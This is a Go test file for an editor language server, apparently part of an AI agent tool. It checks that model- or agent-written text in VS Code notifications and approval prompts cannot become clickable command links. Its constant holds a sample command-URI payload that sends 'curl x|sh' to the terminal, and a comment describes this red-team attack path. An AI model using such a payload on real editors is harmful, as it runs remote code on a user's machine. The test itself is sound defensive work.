package server

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/autarch-dev/autarch/editor"
)

// TestMessagesCarryNoLinks (redteam s12 04): VS Code shows window/showMessage
// and window/showMessageRequest as notifications, and a notification turns
// [label](command:…) into a link it opens with commands allowed. The
// messages carry what models and agents wrote (a job's stop reason, an
// approval's reason, errors naming the agent's files), so none may reach
// the editor as a link; the words stay.
func TestMessagesCarryNoLinks(t *testing.T) {
	const link = "[Details](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)"
	h := newHarness(t, nil)
	var asked json.RawMessage
	h.onCall = func(method string, params json.RawMessage) (any, error) {
		asked = params
		return map[string]string{"title": "Reject"}, nil
	}
	h.initialize(nil)
	c := h.srv.Client()
	if err := c.ShowMessage(context.Background(), editor.Warning, "Autarch: job j stopped: "+link); err != nil {
		t.Fatal(err)
	}
	n := h.waitNote("window/showMessage")
	if _, err := c.Approve(context.Background(), editor.Approval{Kind: "tool", Title: "Run `make`?", Reason: "to build " + link}); err != nil {
		t.Fatal(err)
	}
	for what, params := range map[string]string{"window/showMessage": string(n.params), "window/showMessageRequest": string(asked)} {
		if strings.Contains(params, "](command:") {
			t.Errorf("%s carries a link: %s", what, params)
		}
		if !strings.Contains(params, "Details") {
			t.Errorf("%s lost the words: %s", what, params)
		}
	}
}
